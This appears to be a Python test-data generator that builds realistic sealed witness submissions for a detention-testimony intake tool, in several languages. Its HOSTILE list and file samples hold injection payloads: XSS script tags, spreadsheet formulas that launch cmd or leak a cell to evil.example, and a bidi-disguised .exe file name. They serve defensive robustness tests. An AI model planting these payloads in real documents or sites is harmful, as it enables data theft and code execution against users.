"""Realistic (and hostile) submissions of the bundled questionnaire, for casework tests and bench.

:func:`testimony` answers ``detention.toml`` as a witness would (branches followed, some
questions skipped, answers in the witness's language, option labels as the engine writes them),
with a chance of hostile text: HTML/JS, bidi controls, spreadsheet formulas, huge fields.
:func:`seal` packs and seals it with the production tar writer and our age implementation.
"""

from __future__ import annotations

import hashlib
import io
import json
import random
from collections.abc import Sequence
from datetime import UTC, date, datetime, timedelta
from functools import lru_cache
from typing import Any

import crypto
from intake.questionnaire import Questionnaire, load_default
from intake.submission.document import FORMAT_V1, attachment_path, parse_submission
from intake.submission.tarwriter import Member, write_tar

PLACES = {
    "be": ["Мінск, праспект Пераможцаў", "Акрэсціна", "Гродна, плошча Савецкая", "Брэст"],
    "ru": ["Минск, Пушкинская", "ЦИП на Окрестина", "Гомель, улица Советская", "Жодино"],
    "uk": ["Мінськ, вулиця Немига", "Окрестина", "Могильов"],
    "en": ["Minsk, Independence Avenue", "Okrestina detention centre", "Vitebsk"],
}
STORIES = {
    "be": "Нас затрымалі каля метро, пасадзілі ў аўтазак і білі дубінкамі.",
    "ru": "Нас задержали у метро, посадили в автозак и били дубинками.",
    "uk": "Нас затримали біля метро, посадили в автозак і били кийками.",
    "en": "We were detained near the metro, put in a van and beaten with batons.",
}
FILES = [
    ("photo", "photo.jpg", "image/jpeg"),
    ("document", "IMG_2041.jpg", "image/jpeg"),
    ("voice", "voice.ogg", "audio/ogg"),
    ("document", "evidence\u202egpj.exe", "image/jpeg"),  # a disguised name
]
HOSTILE = [
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "evidence\u202egpj.exe",
    "\u2067שלום\u2069 </script><!-- ]]> {{x}} ${x}",
    "](javascript:alert(1)) ![x](http://evil.example/pixel.png) <b>bold</b> | a::b",
]


@lru_cache(maxsize=1)
def _bundled() -> Questionnaire:
    return load_default()


def _text(rng: random.Random, lang: str, pool: Sequence[str], hostile: float) -> str:
    if rng.random() < hostile:
        return rng.choice(HOSTILE)
    return rng.choice(pool)


def make_testimony(
    n: int,
    rng: random.Random,
    q: Questionnaire | None = None,
    *,
    hostile: float = 0.05,
    files: bool = True,
    custody: bool = True,
) -> tuple[dict[str, Any], dict[str, bytes]]:
    """Submission ``n`` (a dict for submission.json) and its attachment contents by tar path.

    ``custody=False``: without the attachments' reception keys, as sealed before they existed
    (and as readers before them accept)."""
    q = q or _bundled()
    lang = rng.choice(q.languages)
    values: dict[str, Any] = {}
    answers: list[dict[str, Any]] = []
    contents: dict[str, bytes] = {}
    attachments: list[dict[str, Any]] = []
    submitted = datetime(2020, 8, 10, tzinfo=UTC) + timedelta(minutes=97 * n)
    for question in q.questions:
        if question.when is not None and not question.when.holds(values):
            continue
        value = _value(question, rng, lang, hostile, n)
        if question.type == "media":
            value = _files(n, rng, submitted, contents, attachments, question.id) if files else None
        skipped = value is None or rng.random() < 0.12
        values[question.id] = None if skipped else value
        item: dict[str, Any] = {
            "question_id": question.id,
            "type": question.type,
            "prompt": question.prompt[lang],
            "value": None if skipped else value,
        }
        if skipped:
            item["skipped"] = True
            if question.type == "media":
                for att in [a for a in attachments if a["question_id"] == question.id]:
                    attachments.remove(att)
                    contents.pop(att["path"])
        elif question.type == "choice":
            item["label"] = question.option(value).label[lang]  # type: ignore[union-attr]
        elif question.type == "multi_choice":
            item["labels"] = [o.label[lang] for o in question.options if o.id in value]
        answers.append(item)
    sub = {
        "format": FORMAT_V1,
        "submission_id": f"01CASE{n:010d}",
        "receipt": f"R{n:04d}-{rng.randrange(16**4):04X}",
        "questionnaire": {"id": q.id, "version": q.version},
        "language": lang,
        "submitted_at": submitted.isoformat().replace("+00:00", "Z"),
        "answers": answers,
        "attachments": attachments,
    }
    if not custody:
        for att in attachments:
            del att["received_at"], att["received_as"]
    parse_submission(sub)  # what we make must be valid
    return sub, contents


def _value(question: Any, rng: random.Random, lang: str, hostile: float, n: int) -> Any:
    kind = question.type
    if kind in ("choice", "multi_choice"):
        ids = [o.id for o in question.options]
        if kind == "choice":
            return rng.choice(ids)
        return [i for i in ids if rng.random() < 0.3] or [ids[0]]
    if kind == "yes_no":
        return rng.random() < 0.7
    if kind == "number":
        low = int(question.min or 0)
        return rng.randint(low, max(low, min(int(question.max or 50), 60)))
    if kind == "date":
        day = date(2020, 8, 9) + timedelta(days=rng.randrange(240))
        shape = rng.random()
        return day.isoformat() if shape < 0.8 else day.isoformat()[:7] if shape < 0.95 else "2020"
    if kind == "location":
        return {"latitude": 53.9 + rng.random() / 10, "longitude": 27.5 + rng.random() / 10}
    if kind in ("text", "long_text"):
        pool = PLACES[lang] if "place" in question.id else [STORIES[lang]]
        return _text(rng, lang, pool, hostile)
    return None


def _files(
    n: int,
    rng: random.Random,
    submitted: datetime,
    contents: dict[str, bytes],
    attachments: list[dict[str, Any]],
    qid: str,
) -> list[str] | None:
    count = rng.choice([0, 0, 1, 2])
    if not count:
        return None
    paths = []
    for k in range(count):
        kind, name, mime = rng.choice(FILES)
        data = f"file {n}/{k} ".encode() * rng.randint(1, 40)
        path = attachment_path(len(attachments) + 1, name)
        received = submitted - timedelta(minutes=3 - k)
        attachments.append({
            "path": path, "filename": name, "mime": mime, "size": len(data),
            "sha256": hashlib.sha256(data).hexdigest(), "question_id": qid,
            "received_at": received.isoformat().replace("+00:00", "Z"), "received_as": kind,
        })  # fmt: skip
        contents[path] = data
        paths.append(path)
    return paths


def seal(
    sub: dict[str, Any], contents: dict[str, bytes], recipients: Sequence[crypto.Recipient]
) -> bytes:
    """The sealed file for ``sub``: the production tar writer into our age encrypter."""
    raw = (json.dumps(sub, ensure_ascii=False, indent=2) + "\n").encode()
    members = [
        Member(a["path"], a["size"], a["sha256"], lambda d=contents[a["path"]]: iter([d]))
        for a in sub["attachments"]
    ]
    out = io.BytesIO()
    with crypto.encrypt(out, recipients) as writer:
        write_tar(writer, raw, members, 1_600_000_000)
    return out.getvalue()
